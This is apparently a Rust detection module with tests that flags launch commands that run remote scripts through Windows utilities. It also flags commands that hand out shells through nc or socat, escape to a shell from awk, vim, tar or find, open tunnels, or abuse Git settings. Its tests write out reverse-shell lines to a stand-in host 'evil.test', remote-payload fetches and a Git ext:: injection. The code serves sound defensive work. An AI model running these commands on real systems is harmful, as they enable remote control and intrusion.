//! Programs of a system that run what they are told by an option or an address: those of Windows that take a script, a
//! library or a package from anywhere, those that hand a shell to another machine, editors and archivers with a way to a
//! program, tunnels, and Git's settings. None of them is a server; a launch that names one does what the option says.

use super::loader::is_risky_setting;
use crate::launch::line::is_shell;

/// Index of the argument by which a program of Windows runs what lies on another machine, or stands in the line itself.
pub(super) fn runs_remote(program: &str, args: &[&str]) -> Option<usize> {
    let far = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        let share = lower.starts_with("\\\\") && !lower.starts_with("\\\\wsl");
        share || ["http://", "https://", "ftp://"].iter().any(|p| lower.starts_with(p))
    };
    let script = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        ["javascript:", "vbscript:", "about:<"].iter().any(|p| lower.starts_with(p))
    };
    let found: &dyn Fn(&str) -> bool = match program {
        "mshta" | "rundll32" => &|w| far(w) || script(w),
        "wscript" | "cscript" | "hh" | "installutil" | "certutil" | "bitsadmin" => &far,
        "regsvr32" => &|w| far(w) || w.get(..3).is_some_and(|f| f.eq_ignore_ascii_case("/i:") && far(&w[3..])),
        "msiexec" => &far,
        _ => return None,
    };
    args.iter().position(|a| found(a))
}

/// Index of the argument by which another machine gets a shell of this one.
pub(super) fn hands_over(program: &str, args: &[&str]) -> Option<usize> {
    match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            let long = ["--exec", "--sh-exec", "--lua-exec"];
            (0..args.len()).find(|at| {
                let arg = args[*at];
                let short = arg.starts_with('-') && !arg.starts_with("--");
                // `-c` is encryption to some
                let shell = args.get(at + 1).is_some_and(|a| is_shell(&crate::launch::line::program(a)));
                (short && (arg.ends_with('e') || (arg.ends_with('c') && shell)))
                    || long.contains(&arg.split('=').next().unwrap_or(arg))
            })
        }
        "socat" => {
            let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
            let net = lower.iter().any(|a| ["tcp", "udp", "openssl", "ssl", "sctp"].iter().any(|p| a.starts_with(p)));
            let runs = |a: &String| ["exec:", "system:", "shell:"].iter().any(|p| a.starts_with(p));
            lower.iter().position(runs).filter(|_| net)
        }
        _ => None,
    }
}

/// Index of the argument by which a program that is no server starts another one, now or later.
pub(super) fn escapes(program: &str, args: &[&str]) -> Option<usize> {
    let lower = |a: &str| a.to_ascii_lowercase();
    let shell = |a: &&str| is_shell(&crate::launch::line::program(a));
    let holds = |what: &'static str| args.iter().position(|a| lower(a).contains(what));
    let is = |what: &'static [&'static str]| args.iter().position(|a| what.contains(&lower(a).as_str()));
    match program {
        "awk" | "gawk" | "mawk" | "nawk" => holds("system("),
        "vi" | "vim" | "nvim" | "ex" | "view" => {
            args.iter().position(|a| a.trim_start_matches('+').starts_with([':', '!']) && a.contains('!'))
        }
        "gdb" | "lldb" => args.iter().position(|a| ["shell ", "!", "platform shell"].iter().any(|p| a.starts_with(p))),
        "tar" | "bsdtar" => holds("checkpoint-action=exec").or_else(|| holds("--to-command")),
        "zip" => is(&["-tt", "--unzip-command"]),
        "expect" => args.iter().position(|a| a.contains("spawn ") || a.contains("exec ")),
        "find" => is(&["-exec", "-execdir", "-ok"]).filter(|at| args.get(at + 1).is_some_and(shell)),
        "xargs" | "parallel" => args.iter().position(|a| is_shell(&crate::launch::line::program(a))),
        "wmic" => is(&["create"]),
        "forfiles" => is(&["/c"]),
        "schtasks" => is(&["/create"]),
        "crontab" => args.iter().position(|a| !a.starts_with('-')),
        "launchctl" => is(&["load", "bootstrap", "submit"]),
        "at" | "batch" => is(&["-f"]),
        _ => None,
    }
}

/// Index of the word by which a program makes a port of this machine reachable from the network.
pub(super) fn tunnels(program: &str, args: &[&str]) -> Option<usize> {
    let is = |what: &[&str]| args.iter().position(|a| what.contains(a));
    match program {
        "ngrok" => is(&["http", "tcp", "tls", "start"]),
        "cloudflared" => is(&["tunnel"]).filter(|_| args.iter().any(|a| a.starts_with("--url"))),
        "tailscale" => is(&["funnel"]),
        "lt" | "localtunnel" => args.iter().position(|a| a.starts_with("--port") || *a == "-p"),
        "ssh" => args.iter().position(|a| a.starts_with("-R")),
        _ => None,
    }
}

/// Index of a setting on Git's command line that runs a program.
pub(super) fn setting(args: &[&str]) -> Option<usize> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        match *arg {
            "-c" | "--config-env" if risky(next) => return Some(at + 1),
            "-c" | "-C" | "--config-env" | "--git-dir" | "--work-tree" | "--namespace" => at += 1,
            _ if arg.strip_prefix("--config-env=").is_some_and(risky) || arg.starts_with("--exec-path=") => {
                return Some(at);
            }
            _ if arg.starts_with('-') => {}
            // the verb; its own options may name a program for the other side
            _ => return args[at..].iter().position(|a| is_pack(a)).map(|i| at + i),
        }
        at += 1;
    }
    None
}

fn is_pack(arg: &str) -> bool {
    let program = ["--upload-pack=", "--receive-pack="].iter().find_map(|p| arg.strip_prefix(p));
    program.is_some_and(|p| !p.starts_with("git-")) || arg.starts_with("ext::")
}

/// A setting that runs something; a usual pager is not meant.
fn risky(setting: &str) -> bool {
    let (key, value) = setting.split_once('=').unwrap_or((setting, "x"));
    is_risky_setting(key) && !["", "cat", "less", "true", "false", "never"].contains(&value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_run_what_an_address_holds_are_told_from_their_plain_use() {
        for (program, args) in [
            ("mshta", vec!["https://a.test/x.hta"]),
            ("mshta", vec!["vbscript:Execute(1)"]),
            ("rundll32", vec!["\\\\a.test\\s\\x.dll,Main"]),
            ("regsvr32", vec!["/s", "/u", "/i:https://a.test/x.sct", "scrobj.dll"]),
            ("msiexec", vec!["/q", "/i", "https://a.test/x.msi"]),
            ("cscript", vec!["//nologo", "\\\\a.test\\x.vbs"]),
        ] {
            assert!(runs_remote(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("mshta", vec!["C:\\x\\a.hta"]),
            ("rundll32", vec!["shell32.dll,Control_RunDLL"]),
            ("cscript", vec!["//nologo", "C:\\x\\server.vbs", "a"]),
            ("node", vec!["x.js", "https://a.test"]),
        ] {
            assert_eq!(runs_remote(program, &args), None, "{program} {args:?}");
        }
    }

    #[test]
    fn programs_that_are_no_servers_are_told_from_those_that_only_carry_words() {
        for (program, args) in [
            ("nc", vec!["-e", "/bin/sh", "evil.test", "1"]),
            ("nc", vec!["-lvpe", "/bin/sh"]),
            ("ncat", vec!["evil.test", "1", "--sh-exec", "/bin/bash"]),
            ("socat", vec!["exec:/bin/sh", "tcp:evil.test:1"]),
        ] {
            assert!(hands_over(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("nc", vec!["localhost", "8080"]),
            ("nc", vec!["-c", "a.test", "443"]),
            ("nc", vec!["-U", "/run/x.sock"]),
            ("socat", vec!["STDIO", "TCP:host.docker.internal:8811"]),
            ("socat", vec!["-", "EXEC:./server"]),
            ("node", vec!["-e", "x"]),
        ] {
            assert_eq!(hands_over(program, &args), None, "{program} {args:?}");
        }
        for (program, args) in [
            ("awk", vec!["BEGIN{system(\"id\")}"]),
            ("vim", vec!["-c", ":!sh"]),
            ("tar", vec!["xf", "a", "--checkpoint-action=exec=sh"]),
            ("find", vec!["/", "-exec", "sh", "-c", "x", ";"]),
            ("schtasks", vec!["/Create", "/tr", "x"]),
            ("xargs", vec!["-a", "x", "bash", "-c"]),
        ] {
            assert!(escapes(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [("awk", vec!["{print $1}"]), ("crontab", vec!["-l"]), ("find", vec![".", "-name", "x"])]
        {
            assert_eq!(escapes(program, &args), None, "{program} {args:?}");
        }
        assert!(tunnels("ngrok", &["http", "80"]).is_some() && tunnels("ssh", &["-R80:localhost:1", "h"]).is_some());
        assert!(tunnels("ssh", &["-T", "h", "node"]).is_none() && tunnels("cloudflared", &["access", "ssh"]).is_none());
    }

    #[test]
    fn settings_of_git_that_run_a_program_are_seen() {
        for (args, at) in [
            (vec!["-c", "core.sshCommand=./x", "fetch"], 1),
            (vec!["-C", "/srv", "-c", "protocol.ext.allow=always", "clone", "ext::sh -c id"], 3),
            (vec!["--exec-path=/srv/x", "status"], 0),
            (vec!["clone", "--upload-pack=./x", "a:b"], 1),
        ] {
            assert_eq!(setting(&args), Some(at), "{args:?}");
        }
        for args in [
            vec!["-c", "safe.directory=*", "mcp"],
            vec!["-c", "core.pager=cat", "log"],
            vec!["-C", "/srv", "status", "-c", "core.sshCommand=x"],
            vec!["mcp"],
        ] {
            assert_eq!(setting(&args), None, "{args:?}");
        }
    }
}
